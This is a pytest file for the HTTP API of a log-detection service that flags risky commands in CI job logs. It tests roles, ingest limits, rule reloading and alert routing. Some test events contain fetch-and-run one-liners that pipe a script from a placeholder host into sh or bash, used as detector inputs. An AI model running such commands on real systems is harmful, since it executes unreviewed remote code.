"""The HTTP API around a real detector and a fake alert router (the router has its own tests)."""

from __future__ import annotations

import httpx
import orjson
import pytest

from service.api import create_app
from service.config import Settings
from tests.support.api import ADMIN, ANALYST, INGESTER, MATCHING, READER, auth, build_api
from tests.support.rules import BROKEN_RULE, CURL_RULE

SECOND = CURL_RULE.replace("0001", "0002").replace("Curl Piped To Shell", "Wget Seen").replace("'| sh'", "wget")



async def test_health_open_and_readiness(tmp_path):
    client, _, _ = build_api(tmp_path, ready=False)
    async with client:
        assert (await client.get("/healthz")).json() == {"status": "ok"}
        ready = await client.get("/readyz")
        assert ready.status_code == 503 and ready.json()["checks"] == {"rules_loaded": False}
        metrics = await client.get("/metrics")
        assert metrics.status_code == 200 and "pipesentry_events_total" in metrics.text
        assert (await client.get("/docs")).status_code == 200
        assert "/api/v1/events" in (await client.get("/openapi.json")).json()["paths"]


async def test_roles(tmp_path):
    client, _, _ = build_api(tmp_path)
    async with client:
        assert (await client.get("/api/v1/rules")).status_code == 401
        wrong = await client.get("/api/v1/rules", headers=auth("x" * 24))
        assert wrong.status_code == 401 and wrong.headers["www-authenticate"].startswith("Bearer")
        assert (await client.get("/api/v1/rules", headers=auth(READER))).status_code == 200
        assert (await client.post("/api/v1/rules/reload", headers=auth(READER))).status_code == 403
        assert (await client.post("/api/v1/events", content=MATCHING, headers=auth(READER))).status_code == 403
        assert (await client.post("/api/v1/rules/reload", headers=auth(ADMIN))).status_code == 200
        # a log shipper's token posts events and nothing else
        assert (await client.post("/api/v1/events", content=MATCHING, headers=auth(INGESTER))).status_code == 200
        assert (await client.get("/api/v1/rules", headers=auth(INGESTER))).status_code == 403
        assert (await client.post("/api/v1/rules/reload", headers=auth(INGESTER))).status_code == 403
        assert (await client.post("/api/v1/rules/reload", headers=auth(ANALYST))).status_code == 403
        assert (await client.get("/api/v1/rules", headers=auth(ANALYST))).status_code == 200


async def test_metrics_can_require_a_token(tmp_path):
    client, _, _ = build_api(tmp_path, api={"metrics_public": False})
    async with client:
        assert (await client.get("/metrics")).status_code == 401
        assert (await client.get("/metrics", headers=auth(READER))).status_code == 200


async def test_ingest_ndjson_and_array(tmp_path):
    from detectors.sigma.screen import AVAILABLE
    from service import metrics

    client, router, _ = build_api(tmp_path)
    async with client:
        body = MATCHING + b'\n{"message": "fine"}\nnot json\n'
        cleared = metrics.EVENTS_SCREENED.labels("http")._value.get()
        resp = await client.post("/api/v1/events?category=ci_job_log", content=body, headers=auth(ADMIN))
        doc = resp.json()
        assert resp.status_code == 200 and doc["accepted"] == 2
        # "fine" no rule can match: the native screen clears it undecoded, and it still counts as accepted
        assert metrics.EVENTS_SCREENED.labels("http")._value.get() - cleared == (1 if AVAILABLE else 0)
        assert doc["rejected"] == [{"index": 2, "reason": "decode", "error": doc["rejected"][0]["error"]}]
        assert [a["title"] for a in doc["alerts"]] == ["Curl Piped To Shell"]
        assert [a.id for a in router.accepted] == [doc["alerts"][0]["id"]]
        assert router.accepted[0].timestamp == 1767323045.0  # from @timestamp, not arrival
        # the same request again (a client retry): the same alert id, so sinks drop the duplicate
        again = await client.post("/api/v1/events?category=ci_job_log", content=body, headers=auth(ADMIN))
        assert again.json()["alerts"][0]["id"] == doc["alerts"][0]["id"]
        array = await client.post("/api/v1/events?category=ci_job_log", headers=auth(ADMIN),
                                  content=b"[" + MATCHING + b', {"message": "fine"}]')
        assert array.json()["accepted"] == 2 and len(array.json()["alerts"]) == 1
        # wrong log source: the rule does not apply
        other = await client.post("/api/v1/events?product=windows", content=MATCHING, headers=auth(ADMIN))
        assert other.json()["alerts"] == []


async def test_ingest_bad_bodies(tmp_path):
    client, router, _ = build_api(tmp_path, http_ingest={"max_body_bytes": 2048, "max_events": 3})
    async with client:
        big = await client.post("/api/v1/events", content=b"{}\n" * 1000, headers=auth(ADMIN))
        assert big.status_code == 413
        async def chunks():
            for _ in range(400):
                yield b'{"a": 1}\n'

        chunked = await client.post("/api/v1/events", content=chunks(), headers=auth(ADMIN))
        assert chunked.status_code == 413
        many = await client.post("/api/v1/events", content=b"{}\n" * 4, headers=auth(ADMIN))
        assert many.status_code == 400 and "limit of 3" in many.json()["detail"]
        bad = await client.post("/api/v1/events", content=b"[1, 2", headers=auth(ADMIN))
        assert bad.status_code == 400
        mixed = await client.post("/api/v1/events", content=b'["x", {"a": 1}]', headers=auth(ADMIN))
        assert mixed.status_code == 200 and mixed.json()["accepted"] == 1
        assert mixed.json()["rejected"][0]["index"] == 0 and mixed.json()["rejected"][0]["reason"] == "not_object"
        nothing = await client.post("/api/v1/events", content=b'\xff\xfe\n[]\n', headers=auth(ADMIN))
        assert nothing.status_code == 400 and [r["reason"] for r in nothing.json()["rejected"]] == [
            "utf8", "not_object"]
        router.fail = True
        refused = await client.post("/api/v1/events?category=ci_job_log", content=MATCHING,
                                    headers=auth(ADMIN))
        assert refused.status_code == 503
        metrics = (await client.get("/metrics")).text
        assert 'pipesentry_http_requests_rejected_total{reason="too_large"}' in metrics


async def test_api_body_limit_applies_to_other_endpoints(tmp_path):
    client, _, _ = build_api(tmp_path, api={"max_body_bytes": 4096})
    async with client:
        resp = await client.post("/api/v1/rules/test", json={"rule": "x" * 5000, "events": []},
                                 headers=auth(ADMIN))
        assert resp.status_code == 413


async def test_rules_list_get_and_test(tmp_path):
    client, router, _ = build_api(tmp_path)
    async with client:
        listing = (await client.get("/api/v1/rules?level=high", headers=auth(READER))).json()
        assert listing["total"] == 1 and listing["items"][0]["title"] == "Curl Piped To Shell"
        one = await client.get("/api/v1/rules/6f1d1a4e-0000-4000-8000-000000000001", headers=auth(READER))
        assert one.status_code == 200 and one.json()["author"] == "tests"
        assert (await client.get("/api/v1/rules/nope", headers=auth(READER))).status_code == 404
        tested = await client.post("/api/v1/rules/test", headers=auth(ADMIN), json={
            "rule": SECOND, "events": [{"message": "wget x"}, {"message": "curl"}]})
        assert tested.status_code == 200
        assert [(m["event"], m["title"]) for m in tested.json()["matches"]] == [(0, "Wget Seen")]
        broken = await client.post("/api/v1/rules/test", headers=auth(ADMIN), json={"rule": BROKEN_RULE, "events": []})
        assert broken.status_code == 422 and broken.json()["errors"]
        assert (await client.post("/api/v1/rules/test", headers=auth(ADMIN), json={"events": []})).status_code == 422
        # nothing stored, nothing routed, active set unchanged
        assert router.accepted == []
        assert (await client.get("/api/v1/rules", headers=auth(READER))).json()["total"] == 1


@pytest.mark.parametrize(("field_names", "matched"), [("insensitive", [0, 1]), ("sensitive", [0])])
async def test_rule_test_follows_field_names(tmp_path, field_names, matched):
    """A tested rule reads field names as the service's rules do (``rules.field_names``)."""
    client, _, _ = build_api(tmp_path, rules={"field_names": field_names})
    async with client:
        tested = await client.post("/api/v1/rules/test", headers=auth(ADMIN), json={
            "rule": SECOND, "events": [{"message": "wget x"}, {"Message": "wget x"}]})
        assert [m["event"] for m in tested.json()["matches"]] == matched


@pytest.mark.parametrize("skip_invalid", [False, True])
async def test_reload_swaps_or_rejects_as_a_whole(tmp_path, skip_invalid):
    client, _, rules = build_api(tmp_path, rules={"skip_invalid": skip_invalid})
    async with client:
        (rules / "wget.yml").write_text(SECOND)
        ok = await client.post("/api/v1/rules/reload", headers=auth(ADMIN))
        assert ok.status_code == 200 and ok.json()["rules"]["sigma"] == 2 and ok.json()["generation"] == 2
        (rules / "broken.yml").write_text(BROKEN_RULE)
        (rules / "third.yml").write_text(SECOND.replace("0002", "0004").replace("Wget Seen", "Third"))
        resp = await client.post("/api/v1/rules/reload", headers=auth(ADMIN))
        titles = {r["title"] for r in (await client.get("/api/v1/rules", headers=auth(READER))).json()["items"]}
        if skip_invalid:
            assert resp.status_code == 200 and resp.json()["errors"]
            assert titles == {"Curl Piped To Shell", "Wget Seen", "Third"}
        else:
            assert resp.status_code == 422 and resp.json()["result"] == "rejected"
            assert "broken.yml" in resp.json()["errors"][0]["source"]
            assert titles == {"Curl Piped To Shell", "Wget Seen"}


async def test_no_tokens_means_open_api(tmp_path):
    client, _, _ = build_api(tmp_path, tokens=False)
    async with client:
        assert (await client.get("/api/v1/rules")).status_code == 200
        resp = await client.post("/api/v1/events?category=ci_job_log", content=MATCHING,
                                 headers={"content-type": "application/x-ndjson"})
        assert resp.status_code == 200 and len(resp.json()["alerts"]) == 1


def test_embedded_default_newcomer_posts_an_event_and_sees_an_alert(tmp_path):
    """``pipesentry run`` with no config: project rules, HTTP ingest and stdin, alerts on stdout and in the store."""
    import os
    import subprocess
    import sys
    import threading
    import time

    from devservices.process import free_port

    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIPESENTRY_")}
    proc = subprocess.Popen([sys.executable, "-m", "service.cli", "run", "--port", str(port)], cwd=tmp_path,
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env)
    lines: list[bytes] = []
    threading.Thread(target=lambda: lines.extend(iter(proc.stdout.readline, b"")), daemon=True).start()

    def wait(predicate, what: str) -> None:
        deadline = time.monotonic() + 60
        while not predicate():
            assert time.monotonic() < deadline and proc.poll() is None, f"timed out waiting for {what}"
            time.sleep(0.1)

    def ready() -> bool:
        try:
            return httpx.get(url + "/readyz", timeout=1).status_code == 200
        except httpx.HTTPError:
            return False

    try:
        url = f"http://127.0.0.1:{port}"
        wait(ready, "readiness")
        event = b'{"message": "$ curl -sSfL https://get.example.net/install.sh | sh"}'
        posted = httpx.post(url + "/api/v1/events?category=ci_job_log", content=event, timeout=10,
                            headers={"content-type": "application/x-ndjson"}).json()
        assert posted["alerts"][0]["title"] == "Remote Script Piped Into A Shell During A Build"
        stored = httpx.get(url + "/api/v1/alerts", timeout=10).json()
        assert stored["total"] == 1 and stored["items"][0]["event"]["id"] == posted["alerts"][0]["id"]
        wait(lambda: len(lines) >= 1, "the alert on stdout")
        assert orjson.loads(lines[0])["alert_id"] == posted["alerts"][0]["id"]
        # stdin is a pipe here, so it is an input too; with no log source configured every rule applies
        proc.stdin.write(b'{"message": "wget -qO- https://x.example/a | bash"}\n')
        proc.stdin.flush()
        wait(lambda: len(lines) >= 2, "the stdin alert on stdout")
        assert orjson.loads(lines[1])["source"].startswith("stdin:")
        metrics = httpx.get(url + "/metrics", timeout=10).text
        assert 'pipesentry_events_total{source="stdin"} 1.0' in metrics
        assert (tmp_path / "pipesentry-data" / "alerting" / "alerts.db").is_file()
    finally:
        proc.terminate()
        proc.wait(30)
    assert proc.returncode == 0


async def test_alert_and_silence_routes_of_the_real_router_follow_the_roles(tmp_path):
    from service.alerting.router import AlertRouter
    from service.app import _alert_routers

    client, _, _ = build_api(tmp_path)
    settings = Settings(alerting={"sinks": [{"type": "store"}]}, data_dir=str(tmp_path / "d"))
    router = AlertRouter(settings.alerting, settings.data_dir)
    ctx = client._transport.app.state.context
    ctx.routers = _alert_routers(router)
    app = create_app(ctx)
    await router.start()
    try:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as api:
            assert (await api.get("/api/v1/alerts")).status_code == 401
            listed = await api.get("/api/v1/alerts?level=high", headers=auth(READER))
            assert listed.status_code == 200 and listed.json()["total"] == 0
            silence = {"match": {"rule_ids": ["x"]}, "duration_s": 60, "comment": "t"}
            assert (await api.post("/api/v1/silences", json=silence, headers=auth(READER))).status_code == 403
            created = await api.post("/api/v1/silences", json=silence, headers=auth(ANALYST))
            assert created.status_code == 201 and created.json()["created_by"] == "triage"
            listed = await api.get("/api/v1/silences", headers=auth(READER))
            assert [x["id"] for x in listed.json()["items"]] == [created.json()["id"]]
    finally:
        await router.stop()


async def test_a_failing_alert_store_is_a_503_with_its_reason_not_a_500(tmp_path):
    from fastapi import APIRouter

    from service.alerting.store import StoreError
    from service.api.roles import Role, requires

    probe = APIRouter()

    @probe.get("/api/v1/probe", dependencies=[requires(Role.READ)])
    async def failing() -> None:
        raise StoreError(f"alert store query failed (full): database or disk is full at {tmp_path}", "full")

    client, _, _ = build_api(tmp_path)
    client._transport.app.include_router(probe)
    async with client:
        answer = await client.get("/api/v1/probe", headers=auth(READER))
    assert answer.status_code == 503 and answer.headers["retry-after"] == "5"
    assert answer.json() == {"detail": "alert store unavailable (full); retry later"}
